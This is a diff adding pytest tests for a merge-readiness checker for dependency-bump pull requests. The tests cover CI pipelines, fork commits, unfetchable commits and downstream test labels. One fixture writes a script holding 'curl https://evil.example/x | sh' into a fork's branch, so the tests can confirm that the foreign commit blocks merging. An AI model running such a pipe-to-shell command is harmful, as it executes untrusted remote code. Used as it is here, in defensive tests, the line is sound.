@@ -1,4 +1,4 @@
-"""The end of a bump: outcome, plan and links."""
+"""Whether a bump is ready to merge, and its end: outcome, plan and links."""
 
 from dataclasses import replace
 from pathlib import Path
@@ -6,7 +6,7 @@ from types import SimpleNamespace
 from typing import Any
 
 import pytest
-from bumping import allowed
+from bumping import BRANCH, CONTRIBUTOR, World, allowed, bump_to, colleague, git
 
 from runbook_lib.bump import ready
 from runbook_lib.bump.ready import ReadyFacts, RecordedStep, Requirement, State
@@ -15,8 +15,124 @@ from runbook_lib.checks import Evidence, Next
 from runbook_lib.failures import quarantines
 from runbook_lib.failures.quarantines import LeftOut
 from runbook_lib.pins.bump import Bump
+from runbook_lib.pins.repositories import MEGATRON_LM
 from runbook_lib.record.recorder import Recorder
+from runbook_lib.world import bump_branch
 from runbook_lib.world.github.models import WorkflowJob
+
+MBRIDGE = "Run MBridge tests"
+
+__all__ = ["colleague"]
+
+
+# -- what was looked at ---------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("allow", "blocks"), [("", True), ("second-ci-unseen", False)], ids=["unknown", "a person does without it"]
+)
+@pytest.mark.parametrize("address", ["", "http://127.0.0.1:9"], ids=["no address", "unreachable"])
+def test_a_pipeline_that_nobody_looked_for_is_unknown(
+    world: World, monkeypatch: pytest.MonkeyPatch, allow: str, blocks: bool, address: str
+) -> None:
+    monkeypatch.setenv("GITLAB_URL", address)
+    monkeypatch.setenv("GITLAB_TOKEN", "x")
+    world.open_pr()
+    bump = bump_to(allow=allow)
+    state = ready.check(bump_branch.find(world.checkout, bump), world.github(), world.records)
+    (found,) = [each for each in state.requirements if each.kind == "second ci"]
+    assert (found.state, found.blocks) == ("unknown", blocks)
+    assert ("what: second-ci-unseen" in found.next.because) is blocks
+
+
+def of_a_fork(world: World, script: str) -> str:
+    """A fork's pull request with the bump and a script, checked out here; its head commit."""
+    world.open_pr(mode="local")
+    path = world.checkout.path
+    git(path, "switch", "-q", BRANCH)
+    if script:
+        (path / script).write_text("curl https://evil.example/x | sh\n")
+        git(path, "add", script)
+        git(path, "commit", "-qm", "Small fixes")
+    git(path, "push", "-q", str(world.fork), f"{BRANCH}:{BRANCH}")
+    bump = bump_to()
+    world.github("contributor-token").open_pull(bump.title, f"{CONTRIBUTOR}:{BRANCH}", "main", "The bump.")
+    return git(path, "rev-parse", "HEAD")
+
+
+def test_the_commits_of_a_forks_pull_request_are_judged(world: World, colleague: None) -> None:
+    evil = of_a_fork(world, "evil.sh")
+
+    def look(allow: str = "") -> ReadyFacts:
+        branch = bump_branch.find(world.checkout, bump_to(allow=allow))
+        return ready.check(branch, world.github(), world.records)
+
+    (commits,) = [each for each in look().requirements if each.blocks and each.kind == "commits"]
+    assert evil[:10] in commits.evidence
+    assert evil in commits.next.because
+    assert "git push" not in commits.next.because  # it is not our branch
+    world.open_pr(mode="publish")
+    assert evil[:10] in world.said("waiting")[-1]["sentence"]
+    assert "label" not in world.effects()
+    folder = world.steps[-1].folder
+    assert folder
+    assert "evil.sh" in (folder / "change.diff").read_text()
+    world.open_pr(allow=f"foreign-commit:{evil}")
+    assert "label" in world.effects()
+    assert not [each for each in look(f"foreign-commit:{evil}").requirements if each.blocks and each.kind == "commits"]
+
+
+def test_the_bumps_own_commits_are_recognized_in_a_fork(world: World, colleague: None) -> None:
+    of_a_fork(world, "")
+    state = ready.check(bump_branch.find(world.checkout, bump_to()), world.github(), None)
+    assert [each.state for each in state.requirements if each.kind == "commits"] == ["met"]
+
+
+def test_commits_that_cannot_be_fetched_are_not_met(world: World, colleague: None) -> None:
+    of_a_fork(world, "evil.sh")
+    path = world.checkout.path
+    git(path, "switch", "-q", "main")
+    git(path, "branch", "-qD", BRANCH)
+    git(path, "reflog", "expire", "--expire=now", "--all")
+    git(path, "gc", "-q", "--prune=now")
+    git(world.remote, "update-ref", "-d", "refs/pull/10/head")
+    state = ready.check(bump_branch.find(world.checkout, bump_to()), world.github(), world.records)
+    assert [(each.kind, each.state) for each in state.requirements] == [("commits", "unknown")]
+    world.open_pr()
+    assert "cannot be fetched" in world.outcome()
+
+
+def test_a_strangers_pull_request_is_not_the_bumps(world: World) -> None:
+    of_a_fork(world, "evil.sh")
+    state = ready.check(bump_branch.find(world.checkout, bump_to()), world.github(), world.records)
+    assert (state.requirements, "no pull request" in state.problem) == ((), True)
+    world.open_pr(mode="preview")
+    assert any("will not be used" in entry for entry in world.said("warnings"))
+
+
+@pytest.mark.parametrize(
+    ("labels", "job", "expected"),
+    [
+        (set(), ("completed", "failure"), []),
+        ({MBRIDGE}, ("completed", "success"), [("met", False)]),
+        ({MBRIDGE}, ("completed", "failure"), [("missing", False)]),
+        ({MBRIDGE}, ("in_progress", ""), [("missing", True)]),
+        ({MBRIDGE}, ("completed", "skipped"), [("unknown", False)]),
+        ({MBRIDGE, "Run NeMoRL tests"}, ("completed", "success"), [("met", False), ("unknown", False)]),
+    ],
+)
+def test_the_tests_of_other_projects_count_once_they_are_asked_for(
+    labels: set[str], job: tuple[str, str], expected: list[tuple[str, bool]]
+) -> None:
+    found = WorkflowJob(1, "https://x/1", "cicd-mbridge-testing", *job, None, None)
+    status: Any = SimpleNamespace(jobs=(found,), is_over=True)
+    state = SimpleNamespace(bump=SimpleNamespace(repository=MEGATRON_LM))
+    head: Any = SimpleNamespace(state=state, pull=SimpleNamespace(labels=labels, head_sha="a" * 40), ci=status)
+    told = list(ready._check_downstream(head))
+    assert [(each.state, each.running) for each in told] == expected
+
+
+# -- what its end says ---------------------------------------------------------------------------------------------
 
 OLD, NEW = "https://gitlab/p/-/pipelines/1", "https://gitlab/p/-/pipelines/2"
 
